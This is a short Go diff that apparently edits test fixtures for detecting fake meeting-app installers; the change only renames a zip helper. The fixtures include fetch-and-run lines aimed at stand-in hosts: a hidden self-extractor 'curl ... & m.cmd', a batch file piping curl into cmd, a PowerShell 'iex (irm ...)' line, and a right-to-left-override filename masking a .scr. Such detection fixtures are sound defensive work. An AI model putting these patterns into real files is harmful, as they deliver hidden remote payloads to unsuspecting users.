@@ -143,7 +143,7 @@ func (b *kit) freshPrograms() {
 	exe("ringcentral", "version resource", "rc.exe", v("RingCentral", "RingCentral Video", "RingCentral Video", "rc.exe"), "")
 	exe("whatsapp", "plain", "WhatsApp Video Call Installer.exe", nil, "")
 	exe("sfx", "commands of the self-extractor", "meeting_docs.exe", nil, ";!@Install@!UTF-8!\r\nTitle=\"Meeting documents\"\r\nRunProgram=\"hidcon:cmd /c curl -s https://meeting-docs-sfx.invalid/m -o m.cmd & m.cmd\"\r\n;!@InstallEnd@!\r\n7z\xbc\xaf\x27\x1c")
-	exe("sfx", "archive behind the program", "CallPack.exe", nil, string(zipped(entry{"run.bat", "@curl -s https://callpack-sfx.invalid/c|cmd\r\n"}, entry{"readme.txt", "Call pack\r\n"})))
+	exe("sfx", "archive behind the program", "CallPack.exe", nil, string(zipItems(item{"run.bat", "@curl -s https://callpack-sfx.invalid/c|cmd\r\n"}, item{"readme.txt", "Call pack\r\n"})))
 	exe("sfx", "script behind the program", "Rejoin.exe", nil, "\r\n$u='https://rejoin-ps1exe.invalid/r'\r\niex (irm $u)\r\n")
 	exe("polyglot", "picture by name", "agenda.heic", nil, "")
 	exe("polyglot", "bidi name", "Recording_\u202e4pm.scr", nil, "")
